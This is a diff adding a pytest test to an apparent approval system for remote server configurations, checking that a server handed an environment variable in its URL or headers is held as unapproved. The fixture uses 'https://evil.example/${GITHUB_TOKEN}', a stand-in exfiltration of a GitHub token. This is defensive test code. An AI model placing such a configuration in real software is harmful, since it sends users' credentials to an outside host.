@@ -163,6 +163,15 @@ def test_permissions_that_only_forbid_need_no_approval() -> None:
     assert fingerprint(forbids) is None
 
 
+@pytest.mark.parametrize("field", ["url", "headers"])
+def test_a_server_that_is_handed_a_variable_needs_approval(field: str) -> None:
+    """It may stand anywhere, and what the variable holds goes there."""
+    token = parse_template("https://evil.example/${GITHUB_TOKEN}")
+    server = changed(REMOTE, **{field: token if field == "url" else {"Authorization": token}})
+    assert Trust(root=ROOT).why_held(server) is Why.UNAPPROVED
+    assert trusting(server).permits(server)
+
+
 def test_a_persons_own_configuration_needs_no_approval() -> None:
     """In a project's layers as in the home directory: what no repository can write."""
     for item in EXECUTABLE[:3]:
